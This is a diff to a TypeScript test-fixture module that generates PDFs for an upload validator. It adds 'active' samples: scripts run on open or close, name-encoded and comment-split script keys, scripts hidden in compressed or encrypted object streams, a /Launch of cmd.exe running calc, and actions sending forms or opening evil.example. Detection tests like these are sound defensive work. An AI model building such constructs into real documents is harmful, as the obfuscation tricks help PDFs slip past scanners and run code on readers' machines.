@@ -1,5 +1,5 @@
 import { createHash, randomBytes } from 'node:crypto'
-import { constants, deflateRawSync } from 'node:zlib'
+import { constants, deflateRawSync, deflateSync } from 'node:zlib'
 
 import type { PdfProblem } from '#app/files/file-rules.ts'
 import type { Storage } from '#app/files/storage.server.ts'
@@ -52,19 +52,23 @@ export function faxPdf() {
 
 const paddedPassword = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex')
 
-/** Locked by the oldest of PDF's ciphers: against reading, or only against changes, which every viewer opens. */
-export function lockedPdf(against: 'reading' | 'changes') {
+/** The oldest of PDF's ciphers: against reading, or only against changes, which every viewer opens. */
+function lockOf(against: 'reading' | 'changes') {
   const [owner, id] = [randomBytes(32), randomBytes(16)]
   const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff])
   const secret = createHash('md5').update(paddedPassword).update(owner).update(permissions).update(id).digest()
   const user = against === 'changes' ? rc4(secret.subarray(0, 5), paddedPassword) : randomBytes(32)
   const entries = `/O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -4`
   const identity = `<${id.toString('hex')}>`
-  return pdf({
-    pages: 2,
-    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 ${entries} >> /ID [${identity} ${identity}]`,
-  })
+  const encrypt = (object: number, bytes: Buffer) => {
+    const salt = Buffer.from([object, 0, 0, 0, 0])
+    const key = createHash('md5').update(secret.subarray(0, 5)).update(salt).digest().subarray(0, 10)
+    return Buffer.from(rc4(key, bytes))
+  }
+  return { encrypt, trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 ${entries} >> /ID [${identity} ${identity}]` }
 }
+
+export const lockedPdf = (against: 'reading' | 'changes') => pdf({ pages: 2, trailer: lockOf(against).trailer })
 
 function rc4(key: Buffer, text: Buffer) {
   const state = Array.from({ length: 256 }, (_, index) => index)
@@ -96,6 +100,109 @@ export function deepPages() {
   const nodes = Array.from({ length: levels }, (_, level) => pageTree(`${level + 3} 0 R`, 2_000_000_000))
   return assemble([catalog, ...nodes, '<< /Type /Page >>'])
 }
+
+const aPage = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'
+
+/** One page, a catalog that says more than it has to, and what that refers to: the objects from number 4 on. */
+export const pdfSaying = (entries: string, ...objects: (string | Buffer)[]) =>
+  assemble([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, pageTree('3 0 R', 1), aPage, ...objects])
+
+/** The same, with the catalog packed into an object stream, as most programs write it. */
+function packedPdf(entries: string, { type = '/Type /ObjStm', isLocked = false } = {}) {
+  const { encrypt, trailer } = isLocked
+    ? lockOf('changes')
+    : { encrypt: (_: number, bytes: Buffer) => bytes, trailer: '' }
+  const place = '1 0 '
+  const packed = deflateSync(`${place}<< /Type /Catalog /Pages 2 0 R ${entries} >>`)
+  const head = `${type} /N 1 /First ${place.length} /Filter /FlateDecode`
+  const parts = [Buffer.from('%PDF-1.7\n')]
+  const places: number[] = []
+  let size = parts[0]!.length
+  const add = (number: number, object: string | Buffer) => {
+    const part = Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
+    places[number] = size
+    parts.push(part)
+    size += part.length
+  }
+  add(2, pageTree('3 0 R', 1))
+  add(3, aPage)
+  add(4, stream(encrypt(4, packed), head))
+  const table = Buffer.alloc(6 * 6)
+  table.set([2, 0, 0, 0, 4, 0], 6) // object 1 is the first of those packed in object 4
+  for (const number of [2, 3, 4, 5]) {
+    table.writeUInt8(1, number * 6)
+    table.writeUInt32BE(places[number] ?? size, number * 6 + 1)
+  }
+  const tableAt = size
+  add(5, stream(table, `/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R ${trailer}`))
+  return Buffer.concat([...parts, Buffer.from(`startxref\n${tableAt}\n%%EOF\n`)])
+}
+
+const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
+
+/** PDFs that run something by themselves, or by a click that is no link. */
+export const activePdfs: { what: string; make: () => Buffer }[] = [
+  { what: 'runs a script when it is opened', make: () => pdfSaying(`/OpenAction ${script}`) },
+  { what: 'runs a script that stands elsewhere', make: () => pdfSaying('/OpenAction 4 0 R', script) },
+  { what: 'has its script spelt by codes', make: () => pdfSaying('/Open#41ction << /#53 /J#61vaScript /JS (1) >>') },
+  { what: 'has a comment in its script', make: () => pdfSaying('/OpenAction << /S %x\n/JavaScript /JS (1) >>') },
+  {
+    what: 'has a kind that stands elsewhere',
+    make: () => pdfSaying('/OpenAction << /S 4 0 R /JS (1) >>', '/JavaScript'),
+  },
+  { what: 'runs a script when it is closed', make: () => pdfSaying(`/AA << /WC ${script} >>`) },
+  { what: 'has scripts by name', make: () => pdfSaying(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`) },
+  {
+    what: 'starts a program',
+    make: () => pdfSaying('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
+  },
+  { what: 'starts a program by a click', make: () => withAnnotation('<< /S /Launch /F (cmd.exe) >>') },
+  { what: 'sends a form', make: () => pdfSaying('/OpenAction << /S /SubmitForm /F (https://evil.example) >>') },
+  { what: 'reads data', make: () => pdfSaying('/OpenAction << /S/ImportData /F (a.fdf) >>') },
+  { what: 'opens the file in it', make: () => pdfSaying('/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>') },
+  { what: 'opens a site by itself', make: () => pdfSaying('/OpenAction << /S /URI /URI (https://evil.example) >>') },
+  {
+    what: 'has a form with scripts',
+    make: () => pdfSaying('/AcroForm << /Fields [] /XFA 4 0 R >>', stream(Buffer.from('<x/>'))),
+  },
+  { what: 'has its script packed', make: () => packedPdf(`/OpenAction ${script}`) },
+  {
+    what: 'has its script packed where nobody says so',
+    make: () => packedPdf(`/AA << /WC ${script} >>`, { type: '' }),
+  },
+  { what: 'has packed objects and is locked', make: () => packedPdf('', { isLocked: true }) },
+]
+
+/** PDFs that only look so. */
+export const passivePdfs: { what: string; make: () => Buffer }[] = [
+  { what: 'opens at a page', make: () => pdfSaying('/OpenAction [3 0 R /Fit]') },
+  { what: 'opens at a page by an action', make: () => pdfSaying('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>') },
+  { what: 'links to a site', make: () => withAnnotation('<< /S /URI /URI (https://puthi.example) >>') },
+  { what: 'is about scripts', make: () => pdfSaying('/Lang (HTML/JavaScript, /Launch and /SubmitForm)') },
+  {
+    what: 'has a file in it',
+    make: () => pdfSaying('/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.txt) >>] >> >>'),
+  },
+  { what: 'has packed objects', make: () => packedPdf('/OpenAction [3 0 R /Fit]') },
+  {
+    what: 'has an outline before a picture',
+    make: () =>
+      pdfSaying(
+        '/Outlines 4 0 R',
+        '<< /First 5 0 R /Last 5 0 R >>',
+        '<< /Title (A) /Parent 4 0 R >>',
+        stream(Buffer.from([0xff, 0xd8, 0xff, 0xd9]), '/Filter /DCTDecode'),
+      ),
+  },
+]
+
+const withAnnotation = (action: string) =>
+  assemble([
+    catalog,
+    pageTree('3 0 R', 1),
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>`,
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`,
+  ])
 
 /** Two megabytes that become two gigabytes when the catalog is looked for in them. */
 export function unpackingBomb() {
@@ -158,6 +265,7 @@ export const wrongPdfs: WrongPdf[] = [
     make: () => assemble([catalog, pageTree('', -5)]),
     problem: 'not a pdf',
   },
+  { what: 'a PDF that runs a script', name: 'a.pdf', make: activePdfs[0]!.make, problem: 'active pdf' },
   { what: 'a PDF of endless pages', name: 'a.pdf', make: endlessPages, problem: 'not a pdf' },
   { what: '26 MB', name: 'a.pdf', make: () => pdf({ noise: 26 * 1_048_576 }), problem: 'pdf too large' },
   { what: 'nothing', name: 'a.pdf', make: () => Buffer.alloc(0), problem: 'not a pdf' },
